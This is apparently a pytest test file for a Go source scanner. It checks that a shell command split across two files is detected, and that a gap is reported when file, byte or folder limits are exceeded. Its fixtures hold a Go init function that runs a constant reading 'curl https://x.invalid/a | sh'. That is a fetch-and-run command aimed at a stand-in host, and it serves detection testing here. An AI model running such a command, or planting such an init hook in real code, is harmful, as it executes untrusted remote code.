"""Changed files that are walked as one program, and what is told where they are not."""

import pytest
from source_lab import Version

from beartrap.model.coverage import Gap
from beartrap.vet.source_joined import BYTES, FILES, SourceJoined

ACTS = 'package main\nimport "os/exec"\nfunc init() { exec.Command("sh", "-c", line).Run() }\n'
LINE = 'package main\nconst line = "curl https://x.invalid/a | sh"\n'
PLAIN = "package main\nfunc same(a int) int { return a }\n"


def gaps(files: dict[str, str | bytes]) -> list[Gap]:
    return [one for one in SourceJoined().look(Version(files)) if isinstance(one, Gap)]


def spread(count: int) -> dict[str, str | bytes]:
    return {"a.go": ACTS, "b.go": LINE} | {f"f{number}.go": PLAIN for number in range(count - 2)}


def test_a_constant_of_another_file_is_known() -> None:
    found = list(SourceJoined().look(Version(spread(2))))
    assert any("curl" in one.quote for one in found if not isinstance(one, Gap))


@pytest.mark.parametrize(
    ("files", "told"),
    [
        (spread(FILES), 0),
        (spread(FILES + 1), 1),
        (spread(2) | {"c.go": "package main\n// " + "x" * BYTES}, 1),
        ({f"p{number}/{name}.go": text for number in range(13) for name, text in (("a", ACTS), ("b", LINE))}, 5),
        ({f"p{number}/{name}.go": PLAIN for number in range(13) for name in "ab"}, 0),
    ],
    ids=["as many files", "too many files", "too many bytes", "too many folders", "nothing that acts"],
)
def test_what_is_not_walked_together_is_told_and_holds_nothing_up(files: dict[str, str | bytes], told: int) -> None:
    assert [(one.questions, "walked together" in one.why) for one in gaps(files)] == [((), True)] * told
